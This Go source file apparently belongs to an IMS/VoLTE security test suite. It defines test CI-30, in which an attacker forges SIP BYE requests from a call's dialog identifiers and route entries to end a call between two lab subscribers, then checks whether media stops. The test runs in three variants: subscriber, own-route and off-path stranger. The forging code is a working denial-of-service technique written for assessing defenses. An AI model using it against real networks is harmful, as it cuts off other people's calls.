package attack

import (
	"context"
	"fmt"
	"slices"
	"strings"
	"time"

	"imsafe/client/ue"
	"imsafe/secure"
)

// dialogKill: somebody who has read the identifiers of a call ends it.
func dialogKill() Attack {
	return Attack{
		ID: "ci.dialog.kill", Number: "CI-30", Title: "ending a call of others",
		Text:     "identifiers of a call are no secret: whoever saw them could end it",
		Services: []Service{Availability}, Stride: Denial, Threats: []Threat{Interruption, Destruction}, Module: ServicesControl,
		Source: "TS 33.203 7.1; RFC 3261 12.2", Access: both(),
		Bounds: Bounds{Packets: 60, Bytes: 80_000, Conns: 2, Time: 3 * time.Second},
		Variants: []Variant{
			{Name: "subscriber", Position: Subscriber, Run: killAsSubscriber, Controls: []secure.ControlID{secure.CIIntegrityDialogOwner}},
			{Name: "own-way", Position: Subscriber, Run: killByOwnWay, Controls: []secure.ControlID{secure.CIIntegrityDialogOwner}},
			{Name: "stranger", Position: OffPath, Run: killAsStranger,
				Controls: []secure.ControlID{secure.CIAuthorizationProtectedPort, secure.CIIntegrityDialogOwner}},
		},
	}
}

func killAsSubscriber(ctx context.Context, f *Field, o *Outcome) error {
	mallory, err := f.Mallory(ctx)
	if err != nil {
		return err
	}
	return kill(ctx, f, o, mallory, nil)
}

// killByOwnWay goes into the core by the entry of a dialog of the attacker's own, and from there by the way of the call of others.
func killByOwnWay(ctx context.Context, f *Field, o *Outcome) error {
	carol, mallory, err := f.carolAndMallory(ctx)
	if err != nil {
		return err
	}
	own, _, err := mallory.talksTo(ctx, carol)
	if err != nil {
		return err
	}
	var entry []string
	for _, line := range own.Lines {
		if isOfServing(line) {
			break
		}
		entry = append(entry, strings.TrimPrefix(line, "Route: "))
	}
	return kill(ctx, f, o, mallory, entry)
}

// isOfServing reports whether an entry of a route is that of an S-CSCF.
func isOfServing(entry string) bool {
	return strings.Contains(entry, "sip:orig@") || strings.Contains(entry, "sip:term@")
}

func killAsStranger(ctx context.Context, f *Field, o *Outcome) error {
	stranger, err := f.Stranger(ctx)
	if err != nil {
		return err
	}
	return kill(ctx, f, o, stranger, nil)
}

// kill sends BYE in the name of either end of a call between alice and bob, with all that a reader of their signalling knows.
func kill(ctx context.Context, f *Field, o *Outcome, killer *Hand, entry []string) error {
	out, in, err := f.Alice.Talk(ctx, f.Bob)
	if err != nil {
		return err
	}
	defer func() { out.Hangup(); in.Hangup() }()
	const times = 10
	for i := range times {
		leg, err := []*ue.Call{out, in}[i%2].Leg(ctx)
		if err != nil {
			return err
		}
		bye := Request{Method: "BYE", URI: leg.Target, From: leg.Local, FromTag: leg.LocalTag, To: leg.Remote, ToTag: leg.RemoteTag,
			CallID: leg.CallID, CSeq: leg.Seq + 100 + uint32(i)}
		route := leg.Route
		if at := slices.IndexFunc(route, isOfServing); entry != nil && at >= 0 {
			route = slices.Concat(entry, route[at:])
		}
		for _, r := range route {
			bye.Lines = append(bye.Lines, "Route: "+r)
		}
		status, err := killer.answered(ctx, killer.Text(bye))
		if err != nil {
			return err
		}
		if status == 0 {
			continue
		}
		o.Arrived("%d BYEs, the last answered %d", i+1, status)
		if status == 200 {
			break
		}
	}
	o.Wire(false, "%d BYEs", times)
	if err := f.stillTalk(ctx, out, in); err != nil {
		o.Users = 2
		o.Peer(true, "%v", err)
		return nil
	}
	o.Peer(false, "alice and bob go on talking")
	return attackOver(Part(ctx, out, in))
}

// attackOver names an error of what comes behind an attack.
func attackOver(err error) error {
	if err != nil {
		return fmt.Errorf("after the attack: %w", err)
	}
	return nil
}

// stillTalk waits until both ends of a call have got more media than they have now.
func (f *Field) stillTalk(ctx context.Context, out, in *ue.Call) error {
	ctx, cancel := Bounded(ctx, reachable)
	defer cancel()
	for _, c := range []*ue.Call{out, in} {
		before := c.Media().PacketsIn
		for c.Media().PacketsIn < before+3 {
			select {
			case <-out.Done():
				return fmt.Errorf("the call of alice and bob is over at alice's: %s", out.Result().Reason)
			case <-in.Done():
				return fmt.Errorf("the call of alice and bob is over at bob's: %s", in.Result().Reason)
			case <-ctx.Done():
				return fmt.Errorf("no more media come: %w", ctx.Err())
			case <-time.After(5 * time.Millisecond):
			}
		}
	}
	return nil
}
